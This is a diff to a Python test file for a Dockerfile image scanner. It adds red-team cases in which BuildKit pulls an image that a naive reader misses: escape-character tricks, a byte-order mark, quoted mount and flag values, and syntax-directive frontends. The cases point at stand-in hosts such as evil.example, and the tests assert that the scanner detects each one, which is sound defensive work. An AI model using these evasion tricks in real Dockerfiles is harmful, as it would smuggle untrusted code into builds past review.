@@ -73,9 +73,14 @@ FROM_CASES = [
         [("alpine", 3)],
     ),
     (
-        "syntax-directive-ignored",
+        "standard-syntax-frontend-not-an-image-to-check",
         "# syntax=docker/dockerfile:1.7\n# check=error=true\n\nFROM alpine\n",
         [("alpine", 4)],
+    ),
+    (
+        "other-syntax-frontend-is-an-image",  # BuildKit pulls it and runs it as the frontend
+        "# syntax=ghcr.io/evil/frontend:1\nFROM alpine\n",
+        [("ghcr.io/evil/frontend:1", 1), ("alpine", 2)],
     ),
     (
         "blank-lines-and-line-numbers",
@@ -486,3 +491,63 @@ def test_deeply_nested_defaults_are_a_problem_not_a_crash() -> None:
     assert len(problem.message) < 300  # the word is not quoted whole
     shallow = "ARG A\nFROM " + "${A:-" * 3 + "alpine" + "}" * 3 + "\n"
     assert [u.image for u in scan_dockerfile(shallow, "Dockerfile").uses] == ["alpine"]
+
+
+#: Dockerfiles where BuildKit pulls an image an earlier reading did not see (red team, checked
+#: against BuildKit's own parser): each must now be seen.
+HIDDEN = {
+    "an escaped escape ends the line": (
+        "FROM alpine\nRUN echo \\\\\nFROM evil.example/a:1\n",
+        "evil.example/a:1",
+    ),
+    "an escaped backtick ends the line": (
+        "# escape=`\nFROM alpine\nRUN echo ``\nFROM evil.example/g:1\n",
+        "evil.example/g:1",
+    ),
+    "a byte-order mark before the escape directive": (
+        "\ufeff# escape=`\nFROM alpine\nRUN echo \\\nFROM evil.example/b:1\n",
+        "evil.example/b:1",
+    ),
+    "an unknown directive ends the directives": (
+        "# foo=bar\n# escape=`\nFROM alpine\nRUN echo `\nFROM evil.example/c:1\n",
+        "evil.example/c:1",
+    ),
+    "a quoted flag value with a space": (
+        'FROM alpine\nCOPY --chown="a b" --from=evil.example/q:1 /x /y\n',
+        "evil.example/q:1",
+    ),
+    "a quoted mount with a space": (
+        'FROM alpine\nRUN --mount="type=bind,target=/a b" '
+        "--mount=type=bind,from=evil.example/m:1,target=/m true\n",
+        "evil.example/m:1",
+    ),
+    "a mount field in CSV quotes": (
+        'FROM alpine\nRUN --mount=type=bind,"from=evil.example/v:1",target=/m true\n',
+        "evil.example/v:1",
+    ),
+    "a frontend in the syntax directive": (
+        "# syntax=evil.example/frontend:1\nFROM scratch\n",
+        "evil.example/frontend:1",
+    ),
+    "a frontend in a // syntax line": (
+        "// syntax=evil.example/frontend:2\nFROM scratch\n",
+        "evil.example/frontend:2",
+    ),
+    "a frontend in a JSON file's syntax member": (
+        '{"syntax": "evil.example/frontend:3"}\n',
+        "evil.example/frontend:3",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HIDDEN))
+def test_what_buildkit_pulls_is_seen(case: str) -> None:
+    text, image = HIDDEN[case]
+    assert image in [u.image for u in scan_dockerfile(text, "Dockerfile").uses]
+
+
+def test_a_directive_given_twice_is_a_problem() -> None:
+    scan = scan_dockerfile("# escape=`\n# escape=\\\nFROM alpine\n", "Dockerfile")
+    assert [(p.line, p.message) for p in scan.problems] == [
+        (2, "the escape parser directive is given twice")
+    ]
